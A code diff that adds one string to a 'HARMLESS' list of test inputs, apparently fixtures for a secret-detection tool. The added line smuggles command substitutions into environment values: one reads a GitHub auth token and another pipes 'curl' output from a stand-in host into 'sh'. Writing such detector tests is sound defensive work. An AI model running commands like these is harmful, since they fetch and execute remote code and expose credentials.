@@ -197,6 +197,7 @@ export const HARMLESS: readonly string[] = [
   'if (password == null || token === undefined) throw new Error("no password");',
   `password=$\{DB_PASSWORD} TOKEN=$TOKEN secret="{{ secret }}" password=<password> password=%s`,
   'PASSWORD=$(cat file)',
+  'TOKEN="$(gh auth token)" DB_PASSWORD="x$(curl -s a.example | sh)" SECRET=x$(id) npm test',
   '"password": "", "token": null, "secret": "string"',
   'std::token::Type and token::parse(x)',
   'PASSWORD_MIN_LENGTH=8\ntoken_type=Bearer\npasswordHash: abc123',
